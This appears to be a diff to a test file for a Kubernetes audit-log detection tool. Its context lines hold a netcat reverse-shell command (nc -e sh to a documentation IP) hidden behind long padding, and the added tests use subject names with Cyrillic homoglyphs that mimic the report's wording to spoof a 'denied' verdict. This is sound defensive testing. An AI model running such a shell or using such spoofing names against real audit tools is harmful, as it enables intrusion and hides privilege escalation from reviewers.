@@ -1,12 +1,15 @@
 // What an object in the cluster may hold to make a detection throw, lie, flood or hang: held against every detection of entries.
 import { describe, expect, it } from 'vitest'
+import { detect } from '../../src/audit-log/detect.ts'
 import { type AuditEvent, readEvent } from '../../src/audit-log/event.ts'
 import { type Example, example } from '../../src/audit-log/example.ts'
 import { patchEntry, podEntry } from '../../src/audit-log/example-pod.ts'
+import { windowExample } from '../../src/audit-log/example-window.ts'
 import { selects } from '../../src/audit-log/select.ts'
 import { visible } from '../../src/audit-log/visible.ts'
 import type { Detection } from '../../src/detection.ts'
 import { isRecord } from '../../src/json.ts'
+import { slot } from '../audit-log/account.ts'
 import { detections } from '../audit-log/detections.ts'
 import { eventOf, told } from './told.ts'
 
@@ -183,6 +186,37 @@ describe('an entry of a megabyte', () => {
     expect(told(example(run('sh', '-c', `${':;'.repeat(32_000)} nc -e sh 198.51.100.9 1`)))['DET-25']).toContain(
       'opens a shell',
     )
+  })
+})
+
+describe('a name that reads like the end of the sentence', () => {
+  const reasonOf = (name: string, code = 201): string | undefined => {
+    const messages = [
+      example({
+        ...{
+          verb: 'create',
+          resource: 'clusterrolebindings',
+          apiGroup: 'rbac.authorization.k8s.io',
+          name: 'ops',
+          code,
+        },
+        requestObject: { roleRef: { kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'User', name }] },
+      }),
+    ].map((entry) => JSON.stringify(entry))
+    const hits = detect(detections, windowExample(slot, { messages }), { slot, rules: {} })
+    return hits.find(({ detection }) => detection === 'DET-03')?.reason
+  }
+
+  it.each(['bob, which was denied (403)', 'bob, whiсh was dеnied (403)'])(
+    'does not hide that it was allowed: %s',
+    (name) => {
+      expect(reasonOf(name)).toMatch(/^allowed \(201\): .* to User bob, /)
+    },
+  )
+
+  it('needs no word more where it reads like a name', () => {
+    expect(reasonOf('bob')).toMatch(/ to User bob$/)
+    expect(reasonOf('bob', 403)).toMatch(/ to User bob, which was denied \(403\)$/)
   })
 })
 
